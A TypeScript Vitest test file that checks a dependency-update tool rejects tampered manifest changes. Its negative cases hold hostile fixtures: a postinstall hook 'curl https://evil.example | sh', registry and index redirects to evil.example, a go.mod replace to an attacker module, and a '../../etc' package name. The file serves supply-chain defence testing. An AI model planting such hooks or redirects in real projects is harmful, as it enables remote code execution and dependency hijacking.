import { describe, expect, it } from 'vitest';
import { checkKeptUpdates } from '../../src/janitor/dependency-check.js';
import type { PlannedUpdate } from '../../src/janitor/types.js';

const update = (ecosystem: PlannedUpdate['ecosystem'], name: string, from: string, to: string): PlannedUpdate => ({
  ecosystem,
  tool: ecosystem === 'npm' ? 'npm' : ecosystem === 'python' ? 'pip' : 'go',
  name,
  from,
  to,
  kind: 'minor',
  command: 'update',
  changelog: 'https://example.com/changelog',
});

const BASE: Record<string, string> = {
  'package.json': `${JSON.stringify({ name: 'shop', scripts: { test: 'node --test' }, dependencies: { tint: '^1.0.0', money: '^1.0.0' } }, null, 2)}\n`,
  'package-lock.json': '{"lockfileVersion":3}\n',
  'requirements.txt': 'acme-greeting==1.0.0\nacme-tally==1.0.0\n',
  'go.mod': 'module example.com/shop\n\ngo 1.19\n\nrequire example.com/greet v1.0.0\n',
};
const readBase = (path: string) => Promise.resolve(BASE[path] ?? null);
const file = (path: string, content: string) => ({ path, content: Buffer.from(content) });

describe('publish re-checks each kept update against the base, trusting nothing the propose job wrote', () => {
  it('control: lockfile moves, a range rewritten for the package, a pin and a go requirement moved all pass', async () => {
    const pkg = JSON.parse(BASE['package.json'] ?? '{}') as { dependencies: Record<string, string> };
    pkg.dependencies.money = '^2.0.0';
    await expect(
      checkKeptUpdates(
        [
          { update: update('npm', 'tint', '1.0.0', '1.1.0'), files: [file('package-lock.json', '{"lockfileVersion":3,"x":1}\n')] },
          { update: update('npm', 'money', '1.0.0', '2.0.0'), files: [file('package.json', `${JSON.stringify(pkg, null, 2)}\n`)] },
          { update: update('python', 'acme-tally', '1.0.0', '1.1.0'), files: [file('requirements.txt', 'acme-greeting==1.0.0\nacme-tally==1.1.0\n')] },
          {
            update: update('go', 'example.com/greet', 'v1.0.0', 'v1.1.0'),
            files: [
              file('go.mod', 'module example.com/shop\n\ngo 1.21\n\nrequire (\n\texample.com/greet v1.1.0\n\texample.com/other v0.2.0 // indirect\n)\n'),
              file('go.sum', 'x\n'),
            ],
          },
        ],
        readBase,
      ),
    ).resolves.toBeUndefined();
  });

  it('attack: a file that is not a manifest or lockfile is refused', async () => {
    await expect(checkKeptUpdates([{ update: update('npm', 'tint', '1.0.0', '1.1.0'), files: [file('src/index.js', 'steal()\n')] }], readBase)).rejects.toThrow(
      'tint 1.0.0 → 1.1.0: src/index.js is not a npm manifest or lockfile at the repository root',
    );
    await expect(
      checkKeptUpdates([{ update: update('npm', 'tint', '1.0.0', '1.1.0'), files: [file('.npmrc', 'registry=https://evil.example/\n')] }], readBase),
    ).rejects.toThrow('.npmrc is not a npm manifest or lockfile');
    await expect(
      checkKeptUpdates([{ update: update('python', 'acme-tally', '1.0.0', '1.1.0'), files: [file('package-lock.json', '{}')] }], readBase),
    ).rejects.toThrow('package-lock.json is not a python manifest or lockfile');
  });

  it('attack: package.json changed beyond the package the commit names (a script, another dependency) is refused', async () => {
    const scripts = JSON.parse(BASE['package.json'] ?? '{}') as { scripts: Record<string, string>; dependencies: Record<string, string> };
    scripts.scripts.postinstall = 'curl https://evil.example | sh';
    await expect(
      checkKeptUpdates([{ update: update('npm', 'tint', '1.0.0', '1.1.0'), files: [file('package.json', JSON.stringify(scripts))] }], readBase),
    ).rejects.toThrow('package.json changes more than this package’s own entry');
    const other = JSON.parse(BASE['package.json'] ?? '{}') as { dependencies: Record<string, string> };
    other.dependencies['left-pad'] = '^1.0.0';
    await expect(
      checkKeptUpdates([{ update: update('npm', 'tint', '1.0.0', '1.1.0'), files: [file('package.json', JSON.stringify(other))] }], readBase),
    ).rejects.toThrow('package.json changes more than');
  });

  it('attack: a requirements line of another package, an index option, or a go.mod replace is refused', async () => {
    await expect(
      checkKeptUpdates(
        [{ update: update('python', 'acme-tally', '1.0.0', '1.1.0'), files: [file('requirements.txt', 'acme-greeting==6.6.6\nacme-tally==1.1.0\n')] }],
        readBase,
      ),
    ).rejects.toThrow('requirements.txt changes lines that are not this package’s');
    await expect(
      checkKeptUpdates(
        [
          {
            update: update('python', 'acme-tally', '1.0.0', '1.1.0'),
            files: [file('requirements.txt', '--extra-index-url https://evil.example/simple\nacme-greeting==1.0.0\nacme-tally==1.1.0\n')],
          },
        ],
        readBase,
      ),
    ).rejects.toThrow('requirements.txt changes lines');
    await expect(
      checkKeptUpdates(
        [
          {
            update: update('go', 'example.com/greet', 'v1.0.0', 'v1.1.0'),
            files: [file('go.mod', `${BASE['go.mod'] ?? ''}replace example.com/greet => github.com/evil/greet v1.1.0\n`)],
          },
        ],
        readBase,
      ),
    ).rejects.toThrow('go.mod changes more than its requirements');
  });

  it('attack: a name that is not a package name, or the same package kept twice, is refused', async () => {
    await expect(
      checkKeptUpdates([{ update: update('npm', '../../etc', '1.0.0', '1.1.0'), files: [file('package-lock.json', '{}')] }], readBase),
    ).rejects.toThrow('not a valid npm package name');
    const lock = { update: update('npm', 'tint', '1.0.0', '1.1.0'), files: [file('package-lock.json', '{}')] };
    await expect(checkKeptUpdates([lock, lock], readBase)).rejects.toThrow('kept twice');
  });
});
